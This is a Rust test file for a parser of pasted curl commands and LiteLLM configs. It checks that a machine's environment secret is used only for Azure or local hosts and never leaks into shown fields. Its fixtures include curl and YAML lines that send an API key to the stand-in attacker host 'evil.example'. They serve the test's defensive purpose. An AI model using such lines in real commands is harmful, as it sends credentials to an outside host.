//! What this machine's variables are lent to, and what people's editors make of quotes.

use super::{line, lines, read};
use crate::api::ErrorCode;

/// What a paste for this host would come to, with a variable that is of no family.
fn curl_to(host: &str) -> String {
    format!("curl https://{host}/anthropic/v1/messages -H 'x-api-key: $TEAM_KEY'")
}

fn litellm(params: &str) -> String {
    format!("model_list:\n- litellm_params: {{model: azure_ai/d, {params}}}\n")
}

#[test]
fn a_variable_of_this_machine_is_lent_to_azure_and_to_this_machine_only() {
    for host in [
        "res.services.ai.azure.com",
        "res.openai.azure.com",
        "127.0.0.1:4000",
    ] {
        let (_, found) = read(&curl_to(host));
        assert!(found[0].secret.is_some(), "{host}");
        assert_eq!(found[0].shown().problem, None, "{host}");
    }
    for host in [
        "evil.example",
        "res.services.ai.azure.com.evil.example",
        "10.0.0.8",
    ] {
        let headers = format!("{} -H 'x-gateway: $TEAM_KEY'", curl_to(host));
        let yaml = litellm(&format!(
            "api_base: 'https://{host}', api_key: os.environ/TEAM_KEY"
        ));
        let application = litellm(&format!(
            "api_base: 'https://{host}', tenant_id: t, client_id: c, client_secret: os.environ/TEAM_KEY"
        ));
        for text in [curl_to(host), headers, yaml, application] {
            let (_, found) = read(&text);
            let all = format!("{:?}", found[0].shown());
            assert!(found[0].secret.is_none(), "{text}");
            assert!(found[0].headers.is_empty(), "{text}");
            assert!(
                found[0]
                    .shown()
                    .left_out
                    .iter()
                    .any(|it| it.contains("TEAM_KEY")),
                "{all}"
            );
            assert!(
                !found[0]
                    .shown()
                    .used
                    .iter()
                    .any(|it| it.contains("TEAM_KEY")),
                "{all}"
            );
        }
    }
    // What stands in the text itself is the text's to give away.
    let own = "curl https://evil.example/anthropic -H 'x-api-key: k-12345678'";
    assert_eq!(lines(own), ["evil.example/anthropic key k-12345678"]);
    let own = "export K=k-12345678\ncurl https://evil.example/anthropic -H \"x-api-key: $K\"";
    assert_eq!(lines(own), ["evil.example/anthropic key k-12345678"]);
}

#[test]
fn a_secret_of_this_machine_is_put_into_no_field_that_is_shown() {
    for text in [
        "curl https://res.example/$TEAM_KEY/anthropic -H 'x-api-key: k'".to_owned(),
        "curl https://$TEAM_KEY.services.ai.azure.com/ -H 'x-api-key: k'".to_owned(),
        litellm("api_base: os.environ/TEAM_KEY, api_key: k"),
        litellm(
            "api_base: 'https://res.services.ai.azure.com', tenant_id: os.environ/TEAM_KEY, client_id: os.environ/TEAM_KEY, client_secret: s",
        ),
    ] {
        let (_, found) = read(&text);
        let shown = format!(
            "{:?}",
            found.iter().map(|it| it.shown()).collect::<Vec<_>>()
        );
        assert!(!shown.contains("team-key-2222"), "{shown}");
    }
    // Where it is no secret by its name, an address may stand in a variable.
    let text = "curl $AZURE_API_BASE/anthropic/v1/messages -H 'x-api-key: k-12345678'";
    assert_eq!(lines(text), ["mine key k-12345678"]);
}

#[test]
fn a_key_may_go_to_another_host_of_its_resource() {
    let text = "curl https://mine.openai.azure.com/ -H 'x-api-key: $AZURE_API_KEY'";
    assert_eq!(read(text).1[0].shown().problem, None);
    for other in [
        "https://other.services.ai.azure.com",
        "https://mine.services.ai.azure.us",
    ] {
        let text = format!("curl {other} -H 'x-api-key: $AZURE_API_KEY'");
        let problem = read(&text).1[0].shown().problem.unwrap();
        assert_eq!(problem.code, ErrorCode::KeyForOtherHost, "{other}");
    }
}

#[test]
fn quotes_that_an_editor_made_pretty_are_quotes() {
    let table = [
        (
            "curl \u{201c}https://res.services.ai.azure.com/\u{201d} -H \u{201c}x-api-key: k-12345678\u{201d}",
            "res key k-12345678",
        ),
        (
            "curl https://res.services.ai.azure.com -H \u{2018}api-key: k-12345678\u{2019}",
            "res key k-12345678",
        ),
        (
            "AZURE_API_BASE=\u{201c}res\u{201d}\nAZURE_API_KEY=\u{2018}k-12345678\u{2019}",
            "res key k-12345678",
        ),
        // Where there are plain ones, the others are words of somebody's.
        (
            "curl https://res.services.ai.azure.com -H 'x-api-key: k-12345678' -d '{\"model\":\"it\u{2019}s\"}'",
            "res key k-12345678 it\u{2019}s",
        ),
    ];
    for (text, expected) in table {
        let found: Vec<_> = read(text).1.iter().map(line).collect();
        assert_eq!(found, [expected], "{text}");
    }
}
